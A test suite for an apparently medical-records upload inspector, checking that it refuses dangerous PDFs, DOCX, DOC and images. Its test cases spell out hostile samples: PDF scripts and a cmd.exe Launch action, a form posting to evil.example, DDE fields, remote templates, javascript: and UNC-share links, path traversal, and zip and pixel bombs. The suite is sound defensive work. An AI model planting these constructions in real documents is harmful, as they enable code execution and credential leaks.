import { randomBytes } from 'node:crypto'
import { PDFName, PDFString } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import { type FileKind, RefusedFile } from '../src/modules/records/inspection/file-kind.js'
import { inspectFile } from '../src/modules/records/inspection/inspect-file.js'
import {
  docxParts,
  relation,
  relations,
  writeCompressedPdf,
  writeDoc,
  writeDocx,
  writeGif,
  writeLargePng,
  writePdf,
  writePhotograph,
  writePixelBomb,
  writePng,
  writeZip,
} from './support/files.js'

/** `kept`, `rewritten`, or why not. */
async function judge(kind: FileKind, bytes: Buffer): Promise<string> {
  try {
    return (await inspectFile(kind, bytes)) ? 'rewritten' : 'kept'
  } catch (error) {
    return error instanceof RefusedFile ? `${error.refusal}: ${error.message}` : `unreadable: ${error}`
  }
}

/** Under a second of work; on a busy machine the clock counts that of others. */
const quickly = async <T>(work: () => Promise<T>): Promise<T> => {
  const start = process.cpuUsage()
  const result = await work()
  const { user, system } = process.cpuUsage(start)
  expect((user + system) / 1_000).toBeLessThan(1_000)
  return result
}

describe('a sound file', () => {
  it.each<[string, FileKind, () => Buffer | Promise<Buffer>, string]>([
    ['PDF', 'pdf', () => writePdf(), 'kept'],
    ['PDF with object streams', 'pdf', () => writeCompressedPdf(), 'kept'],
    [
      'PDF with a link',
      'pdf',
      () =>
        writePdf({
          objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>'],
        }),
      'kept',
    ],
    ['DOCX', 'docx', () => writeDocx(), 'kept'],
    [
      'DOCX with a link',
      'docx',
      () =>
        writeDocx([], {
          links: relations(relation('hyperlink', 'https://a.example/x?y=1&amp;z', 'External')),
        }),
      'kept',
    ],
    ['DOC', 'doc', () => writeDoc(), 'kept'],
    ['JPEG', 'jpeg', () => writePhotograph(), 'rewritten'],
    ['PNG', 'png', () => writePng(), 'rewritten'],
    ['GIF', 'gif', () => writeGif(), 'rewritten'],
  ])('is taken: %s', async (_what, kind, make, expected) => {
    expect(await judge(kind, await make())).toBe(expected)
  })
})

describe('a file that is something else', () => {
  it.each<[string, FileKind, () => Buffer | Promise<Buffer>]>([
    ['a program as PDF', 'pdf', () => Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0')],
    ['a program as DOC', 'doc', () => Buffer.from('\x7fELF\x02\x01\x01')],
    ['HTML as JPEG', 'jpeg', () => Buffer.from('<!DOCTYPE html><script>alert(1)</script>')],
    ['SVG as PNG', 'png', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a PNG as JPEG', 'jpeg', () => writePng()],
    ['a PDF as PNG', 'png', () => writePdf()],
    ['nothing', 'pdf', () => Buffer.alloc(0)],
    ['a zip as DOCX', 'docx', () => writeZip([{ name: 'a.txt', content: 'a' }])],
    [
      'a workbook as DOCX',
      'docx',
      () =>
        writeZip(
          docxParts().map((part) => ({
            ...part,
            content: String(part.content).replace(
              'wordprocessingml.document.main',
              'spreadsheetml.sheet.main',
            ),
          })),
        ),
    ],
    ['another compound file as DOC', 'doc', () => writeDoc().fill(0, 512 * 3)],
  ])('is refused: %s', async (_what, kind, make) => {
    expect(await judge(kind, await make())).toMatch(/^(type|content|unreadable): /)
  })
})

describe('a PDF', () => {
  const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
  it.each<[string, Parameters<typeof writePdf>[0]]>([
    ['a script when opened', { catalog: `/OpenAction ${js}` }],
    ['a script in an object', { objects: [js] }],
    ['a script under an escaped name', { objects: ['<< /S /Java#53cript /#4aS (x) >>'] }],
    ['a script without its type', { objects: ['<< /S 5 0 R /JS (x) >>'] }],
    ['a script in a tree of names', { catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>' }],
    ['a program to start', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }],
    ['a program to start, named elsewhere', { objects: ['<< /S 5 0 R /F (x) >>', '/Launch'] }],
    ['an embedded file', { catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>' }],
    ['an attached file', { objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'] }],
    ['media', { objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }],
    ['a film', { objects: ['<< /Type /Annot /Subtype /Screen >>'] }],
    ['an XFA form', { catalog: '/AcroForm << /XFA (x) >>' }],
    ['a form that sends itself', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }],
    ['encryption', { trailer: '/Encrypt << /Filter /Standard /V 1 >>' }],
    ['an object nested without end', { objects: ['['.repeat(300) + ']'.repeat(300)] }],
  ])('is refused with %s', async (_what, parts) => {
    expect(await judge('pdf', writePdf(parts))).toMatch(/^content: /)
  })

  it.each<[string, (document: Parameters<NonNullable<Parameters<typeof writeCompressedPdf>[0]>>[0]) => void]>(
    [
      [
        'a script',
        (d) =>
          d.catalog.set(
            PDFName.of('OpenAction'),
            d.context.register(d.context.obj({ S: 'JavaScript', JS: PDFString.of('x') })),
          ),
      ],
      ['a program to start', (d) => d.context.register(d.context.obj({ S: 'Launch', F: PDFString.of('x') }))],
      ['an attached file', (d) => d.context.register(d.context.obj({ Type: 'Filespec', EF: {} }))],
    ],
  )('is refused with %s inside an object stream', async (_what, change) => {
    const bytes = await writeCompressedPdf(change)
    expect(bytes.toString('latin1')).not.toMatch(/JavaScript|Launch|Filespec/)
    expect(await judge('pdf', bytes)).toMatch(/^content: (a key|not allowed)/)
  })

  it('is refused with a script that a later object of the same number hides', async () => {
    const text = writePdf({ objects: ['<< /JS (x) >>'] }).toString('latin1')
    const later = text.replace('xref\n', '4 0 obj\n<< /A 1 >>\nendobj\nxref\n')
    expect(await judge('pdf', Buffer.from(later, 'latin1'))).toMatch(/^content: a key/)
  })

  it.each([
    ['before it', (bytes: Buffer) => Buffer.concat([Buffer.from('<html>'), bytes])],
    ['behind it', (bytes: Buffer) => Buffer.concat([bytes, Buffer.from('<script>alert(1)</script>')])],
    ['as a zip behind it', (bytes: Buffer) => Buffer.concat([bytes, writeDocx(), Buffer.from('%%EOF')])],
    ['instead of its end', (bytes: Buffer) => bytes.subarray(0, -20)],
  ])('is refused with something %s', async (_what, change) => {
    expect(await judge('pdf', change(writePdf()))).toMatch(/^(type|content): /)
  })

  it('is refused in under a second when its objects expand without end', async () => {
    const { deflateSync } = await import('node:zlib')
    const bomb = deflateSync(Buffer.alloc(300_000_000, ' '), { level: 1 })
    const head = Buffer.from(
      `%PDF-1.7\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`,
    )
    const bytes = Buffer.concat([
      head,
      bomb,
      Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
    ])
    expect(bytes.length).toBeLessThan(10 * 1024 * 1024)
    expect(await judge('pdf', bytes)).toBe('content: expands too far')
  })
})

describe('a DOCX', () => {
  it.each<[string, Buffer]>([
    ['macros', writeDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
    [
      'macros under another name',
      writeDocx([], {
        types: '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      }),
    ],
    ['a control', writeDocx([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }])],
    ['an embedded object', writeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
    ['a part of another format', writeDocx([{ name: 'word/afchunk.mht', content: 'x' }])],
    [
      'a template from elsewhere',
      writeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: relations(relation('attachedTemplate', 'https://evil.example/a.dotm', 'External')),
        },
      ]),
    ],
    [
      'a picture from elsewhere',
      writeDocx([], { links: relations(relation('image', 'https://evil.example/a.png', 'External')) }),
    ],
    [
      'a relation whose mode is spelt in entities',
      writeDocx([], { links: relations(relation('image', 'https://evil.example', '&#69;xternal')) }),
    ],
    [
      'a relation under a prefix',
      writeDocx([], {
        links: relations(relation('frame', 'https://evil.example', 'External').replace('<R', '<r:R')),
      }),
    ],
    [
      'a link that runs a script',
      writeDocx([], { links: relations(relation('hyperlink', 'javascript:alert(1)', 'External')) }),
    ],
    [
      'a link to a share',
      writeDocx([], { links: relations(relation('hyperlink', '\\\\evil.example\\share', 'External')) }),
    ],
    [
      'a field that starts a program',
      writeDocx([], {
        body: '<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r>',
      }),
    ],
    ['entities of its own', writeDocx([], { links: `<!DOCTYPE x [<!ENTITY e "External">]>${relations()}` })],
    [
      'relations in another encoding',
      writeDocx([], { links: '' }).length
        ? writeZip([
            ...docxParts().slice(0, 3),
            { name: 'word/_rels/document.xml.rels', content: Buffer.from(relations(), 'utf16le') },
          ])
        : Buffer.alloc(0),
    ],
    ['a part twice', writeDocx([{ name: 'word/document.xml', content: '<w:document/>' }])],
    ['a part outside', writeDocx([{ name: '../../evil.xml', content: '<a/>' }])],
    ['something before it', Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(200), writeDocx()])],
    ['something behind it', Buffer.concat([writeDocx(), Buffer.from('<script>')])],
  ])('is refused with %s', async (_what, bytes) => {
    expect(await judge('docx', bytes)).toMatch(/^(content|unreadable): /)
  })

  it.each<[string, () => Buffer]>([
    [
      'a part that expands a thousand times',
      () => writeDocx([{ name: 'word/a.xml', content: Buffer.alloc(50_000_000) }]),
    ],
    [
      'many large parts',
      () =>
        writeDocx(
          Array.from({ length: 10 }, (_, n) => ({
            name: `word/${n}.xml`,
            content: Buffer.alloc(20_000_000),
          })),
        ),
    ],
    [
      'a size that is not true',
      () =>
        writeZip([...docxParts(), { name: 'word/a.dat', content: Buffer.alloc(50_000_000) }], {
          claim: (size) => Math.min(size, 1_000),
        }),
    ],
    [
      'ten thousand parts',
      () => writeDocx(Array.from({ length: 10_000 }, (_, n) => ({ name: `word/${n}.xml`, content: '<a/>' }))),
    ],
  ])('is refused in under a second with %s', async (_what, make) => {
    const bytes = make()
    expect(await quickly(() => judge('docx', bytes))).toMatch(/^(content|unreadable): /)
  })
})

describe('a DOC', () => {
  it.each([
    ['macros', writeDoc({ '/Macros/VBA/dir': Buffer.from('x') })],
    ['a package', writeDoc({ '/ObjectPool/_1/\x01Ole10Native': Buffer.from('x') })],
    ['encryption', writeDoc({}, { flags: 0x0100 })],
  ])('is refused with %s', async (_what, bytes) => {
    expect(await judge('doc', bytes)).toMatch(/^content: /)
  })
})

describe('a picture', () => {
  it('is drawn anew: upright, without place, camera or anything behind it', async () => {
    const original = await writePhotograph()
    expect((await sharp(original).metadata()).exif).toBeDefined()
    const polyglot = Buffer.concat([original, writeDocx()])
    const drawn = (await inspectFile('jpeg', polyglot)) as Buffer
    const { exif, icc, iptc, xmp, orientation, width, height } = await sharp(drawn).metadata()
    expect([exif, icc, iptc, xmp, orientation]).toEqual(Array(5).fill(undefined))
    expect([width, height]).toEqual([40, 60])
    expect(drawn.toString('latin1')).not.toMatch(/Exif|secret-camera|word.document/)
  })

  it('keeps the frames of a GIF and the shades of an X-ray', async () => {
    const frames = (await inspectFile('gif', await writeGif(3))) as Buffer
    expect((await sharp(frames, { animated: true }).metadata()).pages).toBe(3)
    const shades = await sharp(
      new Uint16Array(400).map((_, n) => n * 160),
      { raw: { width: 20, height: 20, channels: 1 } },
    )
      .toColourspace('grey16')
      .png()
      .toBuffer()
    expect((await sharp((await inspectFile('png', shades)) as Buffer).metadata()).depth).toBe('ushort')
  })

  it.each([
    [30_000, 30_000],
    [60_000, 2_000],
  ])('is refused in under a second when it says %d by %d pixels', async (width, height) => {
    const bomb = writePixelBomb(width, height)
    expect(await quickly(() => judge('png', bomb))).toMatch(/pixel/)
  })

  it('is refused when it breaks off', async () => {
    const png = await writeLargePng(100_000)
    expect(await judge('png', png.subarray(0, 50_000))).toMatch(/^unreadable: /)
  })
})
